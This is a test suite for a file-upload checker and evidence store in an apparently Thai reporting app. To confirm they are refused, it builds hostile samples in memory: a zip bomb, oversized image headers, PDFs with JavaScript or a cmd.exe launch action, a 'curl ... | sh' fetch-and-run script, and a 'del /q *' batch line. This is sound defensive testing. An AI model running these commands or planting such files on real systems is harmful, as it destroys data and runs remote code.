"""Evidence files: the check (type from the content, never the name; size limit first; hostile
files refused with a clear message in Thai and English) and the store (SQLite and PostgreSQL):
nothing kept for a refused file, every refusal audited, who may attach, download and remove.

The hostile files are built here, in memory, a few hundred bytes each (the zip bomb ~30 KB)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from sqlalchemy import func, select

from ecocity.config import ROOT
from ecocity.core.access import ALL_AREAS, AccessDenied, Actor
from ecocity.io.evidence import MAX_PIXELS, MAX_SIDE, check_evidence
from ecocity.store import models as m
from ecocity.store.audit import list_entries
from ecocity.store.db import session_scope
from ecocity.store.errors import StoreError
from ecocity.store.evidence import (
    EvidenceDenied,
    EvidenceRefused,
    attach_evidence,
    evidence_counts,
    list_evidence,
    read_evidence,
    remove_evidence,
)

WORKBOOKS = ROOT / "tests" / "data" / "workbooks"
MB = 1024 * 1024
ESTATE, AREA = "MAP-TA-PHUT", "RAYONG-MAP-TA-PHUT"
ADMIN = Actor("boss", "admin")
SOMCHAI = Actor("somchai", "officer", frozenset({ESTATE}))
MALEE = Actor("malee", "officer", frozenset({ESTATE}))  # another officer of the same estate
STRANGER = Actor("udom", "officer", frozenset({"LAEM-CHABANG"}))
VIEWER = Actor("viewer", "viewer")
RATREE = Actor("ratree", "reviewer", areas=frozenset({AREA}))
EVERYWHERE = Actor("wichai", "reviewer", areas=frozenset({ALL_AREAS}))
OTHER_REVIEWER = Actor("prasit", "reviewer", areas=frozenset({"CHONBURI-LAEM-CHABANG"}))


# ----------------------------------------------------------------------------- files


def pdf(extra: bytes = b"") -> bytes:
    """A small valid PDF; ``extra`` goes into its catalogue dictionary. A stream whose data
    happens to read "/JS" shows that stream data is not taken for a dictionary."""
    return (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + extra + b" >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
            b"3 0 obj\n<< /Length 8 >>\nstream\n/JS abc\nendstream\nendobj\n"
            b"trailer\n<< /Root 1 0 R >>\n%%EOF\n")


def pdf_with_object_stream(objects: bytes) -> bytes:
    packed = zlib.compress(objects)
    return (b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /OpenAction 5 0 R >>\nendobj\n"
            b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length " + str(len(packed)).encode()
            + b" >>\nstream\n" + packed + b"\nendstream\nendobj\n%%EOF\n")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int) -> bytes:
    """A PNG whose header declares ``width`` x ``height``; its pixel data is a few bytes
    (a real decompression bomb packs gigabytes of them)."""
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + _chunk(b"IDAT", zlib.compress(b"\0" * 16)) + _chunk(b"IEND", b""))


def jpeg(width: int, height: int) -> bytes:
    return (b"\xff\xd8\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0\1\1\0\0\1\0\1\0\0"
            + b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\1\x11\0" + b"\xff\xd9")


def zip_bomb() -> bytes:
    """An .xlsx-looking zip whose sheet is 30 MB of spaces packed into ~30 KB (1000:1)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w") as f:
            for _ in range(30):
                f.write(b" " * MB)
    return out.getvalue()


XLSX = (WORKBOOKS / "filled_basic.xlsx").read_bytes()
CSV = "รหัส,ค่า,หมายเหตุ\nENV-01,12.5,มิเตอร์ 3\n".encode()
SCRIPT = b"#!/bin/sh\ncurl http://example.org/x | sh\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200 + b"This program cannot be run in DOS mode."

HOSTILE = {  # name -> (content, the message's code)
    "zip bomb": ("figures.xlsx", zip_bomb(), "zip_bomb"),
    "script renamed .pdf": ("report.pdf", SCRIPT, "mismatch"),
    "exe renamed .png": ("photo.png", EXE, "mismatch"),
    "100,000 x 100,000 px PNG": ("meter.png", png(100_000, 100_000), "image_too_large"),
    "PDF with /JavaScript": ("report.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "pdf_active"),
    "empty file": ("report.pdf", b"", "empty"),
}


# ----------------------------------------------------------------------------- the check


@pytest.mark.parametrize(("name", "content", "kind", "media_type"), [
    ("report.pdf", pdf(), "pdf", "application/pdf"),
    ("meter.png", png(800, 600), "png", "image/png"),
    ("site.JPG", jpeg(4000, 3000), "jpeg", "image/jpeg"),
    ("figures.xlsx", XLSX, "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("figures.xlsm", (WORKBOOKS / "libreoffice.xlsm").read_bytes(), "xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12"),
    ("figures.xls", (WORKBOOKS / "libreoffice.xls").read_bytes(), "xls", "application/vnd.ms-excel"),
    ("figures.ods", (WORKBOOKS / "libreoffice.ods").read_bytes(), "ods", "application/vnd.oasis.opendocument.spreadsheet"),
    ("readings.csv", CSV, "csv", "text/csv"),
    ("readings.csv", b"\xef\xbb\xbf" + CSV, "csv", "text/csv"),  # Excel's CSV UTF-8 starts with a BOM
])
def test_real_documents_are_accepted_with_their_type_from_the_content(name, content, kind, media_type):
    res = check_evidence(content, name)
    assert res.accepted, res.message("en")
    assert (res.kind, res.media_type, res.problems, res.size) == (kind, media_type, (), len(content))


def test_a_pdf_written_by_fpdf2_is_accepted_and_one_with_an_embedded_file_is_not(tmp_path):
    from fpdf import FPDF

    def document(embed: bool) -> bytes:
        doc = FPDF()
        doc.add_page()
        doc.set_font("helvetica", size=12)
        doc.cell(text="meter readings")
        if embed:
            attached = tmp_path / "payload.txt"
            attached.write_text("x")
            doc.embed_file(attached, desc="payload")
        return bytes(doc.output())

    assert check_evidence(document(embed=False), "readings.pdf").accepted
    res = check_evidence(document(embed=True), "readings.pdf")
    assert [p.code for p in res.problems] == ["pdf_active"] and "/EmbeddedFile" in res.message("en")


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_files_are_refused_with_a_clear_message_in_both_languages(case):
    name, content, code = HOSTILE[case]
    res = check_evidence(content, name)
    assert not res.accepted and res.media_type == ""
    assert [p.code for p in res.problems] == [code]
    for lang in ("th", "en"):
        text = res.message(lang)
        assert text.startswith(f"{name}: ") and "{" not in text and "evidence.msg" not in text


def test_the_messages_name_what_was_found():
    script = check_evidence(SCRIPT, "report.pdf").message("en")
    assert ".pdf" in script and "a PDF document" in script and "script" in script
    exe = check_evidence(EXE, "photo.png").message("en")
    assert ".png" in exe and "a PNG picture" in exe and "Windows program" in exe
    big = check_evidence(png(100_000, 100_000), "meter.png").message("en")
    assert "100,000 × 100,000" in big and f"{MAX_SIDE:,}" in big
    assert "30.0 MB" in check_evidence(zip_bomb(), "figures.xlsx").message("en")
    assert "/JavaScript" in HOSTILE_MESSAGE("PDF with /JavaScript")
    assert "ชื่อไฟล์ลงท้ายด้วย .pdf" in check_evidence(SCRIPT, "report.pdf").message("th")


def HOSTILE_MESSAGE(case: str) -> str:  # noqa: N802 - reads as the table it looks up
    name, content, _ = HOSTILE[case]
    return check_evidence(content, name).message("en")


def test_the_size_limit_is_checked_before_anything_is_read(monkeypatch):
    from ecocity.io.workbook import container

    monkeypatch.setattr(container, "open_zip", lambda *_: pytest.fail("the zip was opened"))
    res = check_evidence(zip_bomb(), "figures.xlsx", max_bytes=1024)
    assert [p.code for p in res.problems] == ["too_large"] and "over the limit of 0.0 MB" in res.message("en")
    monkeypatch.setenv("ECOCITY_MAX_EVIDENCE_MB", "0.01")
    assert [p.code for p in check_evidence(pdf() + b" " * 20_000, "a.pdf").problems] == ["too_large"]
    monkeypatch.setenv("ECOCITY_MAX_EVIDENCE_MB", "20")
    assert check_evidence(pdf() + b" " * 20_000, "a.pdf").accepted


@pytest.mark.parametrize(("name", "content", "code"), [
    ("photo.png", png(20_000, 10), "image_too_large"),  # one side over the limit
    ("photo.png", png(8_000, 8_000), "image_too_large"),  # 64 megapixels
    ("photo.jpg", jpeg(60_000, 60_000), "image_too_large"),
    ("photo.gif", b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\0" * 20, "image_too_large"),
    ("photo.png", png(10, 10)[:20], "damaged"),  # the header cut off
    ("photo.jpg", b"\xff\xd8\xff\xe0\x00", "damaged"),
    ("photo.png", png(0, 10), "damaged"),
    ("report.pdf", pdf_with_object_stream(b"5 0 << /S /JavaScript /JS (app.alert(1)) >>"), "pdf_active"),
    ("report.pdf", pdf(b"/OpenAction << /S /J#61vaScript >>"), "pdf_active"),  # a name written in hex
    ("report.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "pdf_active"),
    ("report.pdf", pdf_with_object_stream(b" " * (60 * MB)), "pdf_bomb"),
    ("report.pdf", pdf().replace(b"<< /Root 1 0 R >>", b"<< /Root 1 0 R /Encrypt 9 0 R >>"), "pdf_encrypted"),
    ("report.pdf", pdf()[:-7], "damaged"),  # cut off: no %%EOF
    ("figures.xlsx", (WORKBOOKS / "encrypted.xlsx").read_bytes(), "encrypted"),
    ("figures.xlsx", (WORKBOOKS / "docx_renamed.xlsx").read_bytes(), "mismatch"),
    ("figures.xlsx", (WORKBOOKS / "broken_zip.xlsx").read_bytes(), "damaged"),
    ("figures.ods", zip_bomb(), "zip_bomb"),  # a bomb whatever its name
    ("readings.csv", "รหัส,ค่า\n".encode("cp874"), "text_not_utf8"),
    ("readings.csv", b"<html><body><script>alert(1)</script></body></html>", "mismatch"),
    ("readings.csv", b"@echo off\r\ndel /q *\r\n", "mismatch"),
    ("readings.csv", b"a,b\n1,\x002\n", "text_not_utf8"),
    ("report.docx", pdf(), "extension"),
    ("report", pdf(), "no_extension"),
    ("setup.exe", EXE, "not_accepted"),
    ("report.pdf", png(10, 10), "mismatch"),
])
def test_more_refusals(name, content, code):
    res = check_evidence(content, name)
    assert [p.code for p in res.problems] == [code], res.message("en")
    assert "{" not in res.message("th") and "{" not in res.message("en")


def test_limits_are_what_the_messages_say():
    assert MAX_SIDE == 12_000 and MAX_PIXELS == 50_000_000
    assert check_evidence(png(MAX_SIDE, 4_000), "wide.png").accepted


# ----------------------------------------------------------------------------- the store


def _count(engine) -> int:
    with session_scope(engine) as s:
        return s.scalar(select(func.count()).select_from(m.Evidence)) or 0


def _audit(engine) -> list[tuple[str, str, str]]:
    with session_scope(engine) as s:
        return [(e.action, e.outcome, e.actor) for e in reversed(list_entries(s, limit=None))]


def _attach(engine, by=SOMCHAI, name="report.pdf", content=None, **kw):
    return attach_evidence(engine, by, ESTATE, 2566, filename=name, content=pdf() if content is None else content,
                           **kw)


@pytest.mark.storage
@pytest.mark.parametrize("case", list(HOSTILE) + ["over the size limit"])
def test_a_hostile_file_is_refused_nothing_stored_and_the_refusal_audited(engine, case):
    name, content, code = HOSTILE.get(case, ("report.pdf", pdf() + b" " * MB, "too_large"))
    with pytest.raises(EvidenceRefused) as err:
        _attach(engine, name=name, content=content, max_bytes=MB)
    assert [p.code for p in err.value.check.problems] == [code]
    assert err.value.code == "refused"
    assert err.value.message("en").startswith(f"{name} was not attached: ")
    assert err.value.message("en").endswith("Nothing was stored.")
    assert "ไม่มีการบันทึกใด ๆ" in err.value.message("th")
    assert _count(engine) == 0
    assert _audit(engine) == [("evidence.refused", "failed", "somchai")]
    with session_scope(engine) as s:
        details = list_entries(s)[0].details
    assert details["problems"] == [code] and details["filename"] == name


@pytest.mark.storage
def test_an_accepted_file_is_stored_with_its_sha256_and_listed_without_its_bytes(engine, make_data):
    from ecocity.store.versions import store_submission

    early = _attach(engine, name="before.pdf")  # sent before the workbook: waits with the year
    assert (early.version, early.indicator_code, early.media_type) == (None, "", "application/pdf")
    store_submission(engine, make_data(), filename="f.xlsx", content=b"f", by=SOMCHAI)
    photo = png(640, 480)
    info = _attach(engine, name="meter.png", content=photo, indicator_code="env-01")  # any case
    assert (info.version, info.status, info.indicator_code) == (1, "pending", "ENV-01")
    import hashlib

    assert (info.sha256, info.size, info.uploaded_by) == (hashlib.sha256(photo).hexdigest(), len(photo), "somchai")
    with session_scope(engine) as s:
        listed = list_evidence(s, ESTATE, 2566)
        assert evidence_counts(s, ESTATE, 2566) == {"": 1, "ENV-01": 1}
        assert list_evidence(s, ESTATE, 2565) == []
    assert [(e.filename, e.indicator_code, e.version) for e in listed] == [("before.pdf", "", None),
                                                                           ("meter.png", "ENV-01", 1)]
    assert not hasattr(listed[0], "content")
    assert read_evidence(engine, info.id, RATREE) == ("meter.png", "image/png", photo)
    assert [a for a, *_ in _audit(engine) if a.startswith("evidence")] == ["evidence.attached", "evidence.attached"]


@pytest.mark.storage
def test_attaching_checks_indicator_version_year_and_duplicates(engine, make_data):
    from ecocity.store.versions import store_submission

    with pytest.raises(StoreError) as err:
        _attach(engine, indicator_code="NOPE-99")
    assert err.value.key == "evidence.error.unknown_indicator"
    with pytest.raises(StoreError) as err:
        _attach(engine, submission_version=3)
    assert err.value.key == "store.no_such_version"
    with pytest.raises(StoreError) as err:
        attach_evidence(engine, SOMCHAI, ESTATE, 1999, filename="a.pdf", content=pdf())
    assert err.value.key == "evidence.error.year"
    store_submission(engine, make_data(), filename="f.xlsx", content=b"f", by=SOMCHAI)
    store_submission(engine, make_data(n=1), filename="g.xlsx", content=b"g", by=SOMCHAI)
    assert _attach(engine, submission_version=1).version == 1
    with pytest.raises(StoreError) as err:
        _attach(engine, name="again.pdf", submission_version=1)
    assert err.value.key == "evidence.error.duplicate" and "report.pdf" in err.value.message("en")
    assert _attach(engine).version == 2  # the same file on the newest version is another attachment
    assert _count(engine) == 2


@pytest.mark.storage
@pytest.mark.parametrize("who", [STRANGER, VIEWER, RATREE])
def test_only_the_estates_officers_and_administrators_attach(engine, who):
    with pytest.raises(AccessDenied):
        _attach(engine, by=who)
    assert _count(engine) == 0
    assert _audit(engine) == [("evidence.denied", "denied", who.username)]
    assert _attach(engine, by=ADMIN).uploaded_by == "boss"


@pytest.mark.storage
def test_who_may_download(engine):
    info = _attach(engine)
    for who in (SOMCHAI, MALEE, ADMIN, RATREE, EVERYWHERE):
        assert read_evidence(engine, info.id, who)[2] == pdf()
    for who in (STRANGER, VIEWER, OTHER_REVIEWER, Actor("", "viewer", via="anonymous")):
        with pytest.raises(EvidenceDenied) as err:
            read_evidence(engine, info.id, who)
        assert "{" not in err.value.message("th")
    refused = [(a, o, w) for a, o, w in _audit(engine) if a == "download.denied"]
    assert refused == [("download.denied", "denied", w) for w in ("udom", "viewer", "prasit", "")]
    with session_scope(engine) as s:
        entry = list_entries(s, action="download.denied", limit=1)[0]
    assert entry.target == f"evidence:{info.id}" and entry.details["evidence_id"] == info.id
    with pytest.raises(StoreError) as err:
        read_evidence(engine, 99_999, ADMIN)
    assert err.value.key == "evidence.error.no_such"


@pytest.mark.storage
def test_removal_by_the_sender_or_an_administrator_until_the_version_is_accepted(engine, make_data):
    from ecocity.store.review import review_submission
    from ecocity.store.versions import store_submission

    store_submission(engine, make_data(), filename="f.xlsx", content=b"f", by=SOMCHAI)
    mine = _attach(engine)
    theirs = _attach(engine, by=MALEE, name="theirs.pdf", content=pdf(b"/Lang (th)"))
    with pytest.raises(EvidenceDenied):
        remove_evidence(engine, theirs.id, SOMCHAI)  # another officer's file
    with pytest.raises(EvidenceDenied):
        remove_evidence(engine, mine.id, RATREE)
    assert remove_evidence(engine, mine.id, SOMCHAI).filename == "report.pdf"
    review_submission(engine, ESTATE, 2566, "accept", by=RATREE)
    with pytest.raises(StoreError) as err:
        remove_evidence(engine, theirs.id, ADMIN)
    assert err.value.key == "evidence.error.accepted"
    assert _count(engine) == 1
    actions = [(a, o) for a, o, _ in _audit(engine) if a.startswith("evidence")]
    assert actions == [("evidence.attached", "ok"), ("evidence.attached", "ok"), ("evidence.denied", "denied"),
                       ("evidence.denied", "denied"), ("evidence.removed", "ok")]


def test_the_new_audit_actions_have_words():
    from ecocity.flows.audit_export import action_text, details_text

    for action in ("evidence.attached", "evidence.refused", "evidence.denied", "evidence.removed"):
        for lang in ("th", "en"):
            assert action_text(action, lang) != action
    assert details_text({"evidence_id": 3, "evidence_for": "ENV-01"}, "en") == \
        "evidence no.: 3 · attached to indicator: ENV-01"
